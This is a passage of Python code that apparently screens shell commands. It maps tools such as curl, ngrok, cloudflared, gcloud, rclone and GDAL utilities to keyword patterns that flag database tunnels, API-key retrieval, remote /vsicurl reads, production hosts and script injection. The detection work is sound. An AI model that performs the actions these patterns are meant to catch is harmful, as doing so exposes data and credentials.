    return False


HANDLERS: dict = {
    "ogr2ogr": [_ogr2ogr, _vsicurl],
    **{n: [_vsicurl] for n in _GDAL_TOOLS if n not in ("ogr2ogr", "ogrinfo")},
    "ogrinfo": [_vsicurl, _sql],
    "osm2pgsql": [_osm2pgsql],
    **{n: [_keys_sent] for n in NET_SENDERS},
    "gcloud": [_gcloud],
    **{n: [_tunnel] for n in ("ngrok", "bore", "cloudflared")},
    **{n: [_sql] for n in _SQL_CLIENTS if n != "ogrinfo"},
    "rclone": [_rclone],
    **{n: [_page_script] for n in ("sed", "gsed")},
    **{n: [_page_printed] for n in ("echo", "printf", "tee", "cat")},
}
for _n in ("curl", "wget", "http", "https", "xh"):
    HANDLERS[_n].append(_api)

_VSI = mentions("/vsicurl")
# what osm2pgsql's review and block read: another server, a Lua file
_OSM_WORDS = mentions("-H", "--host", "host=", "://", "PGHOST", "-S", "--style", "--tag-transform-script", "prod", "live",
                      "stag", "stg", "uat", "shared", fold=True)
_SQL_WORDS = mentions("public", "row level security", "random(", "random (", fold=True)
_KEYS = mentions("/tokens/v2", "get-key-string", "getKeyString")
_API = mentions("/security/", "Runtime", "ProcessBuilder")
SCREENS: dict = {
    "ogr2ogr": mentions("PG:", "postgresql:", "postgres:", "MySQL:", "MSSQL:", "OCI:", "mysql:", "MongoDBv3:", "mongodb:",
                        "ODBC:", "/vsi", fold=True),
    **{n: _VSI for n in _GDAL_TOOLS if n not in ("ogr2ogr", "ogrinfo")},
    "ogrinfo": lambda text: _VSI(text) or _SQL_WORDS(text),
    "osm2pgsql": _OSM_WORDS,
    **{n: _KEYS for n in NET_SENDERS},
    "gcloud": mentions("--clear-restrictions"),
    **{n: mentions(*_DB_PORTS) for n in ("ngrok", "bore", "cloudflared")},
    **{n: _SQL_WORDS for n in _SQL_CLIENTS if n != "ogrinfo"},
    "rclone": mentions("@"),
    **{n: mentions("<script", fold=True) for n in ("sed", "gsed", "echo", "printf", "tee", "cat")},
}
for _n in ("curl", "wget", "http", "https", "xh"):
    SCREENS[_n] = (lambda old: lambda text: old(text) or _API(text))(SCREENS[_n])
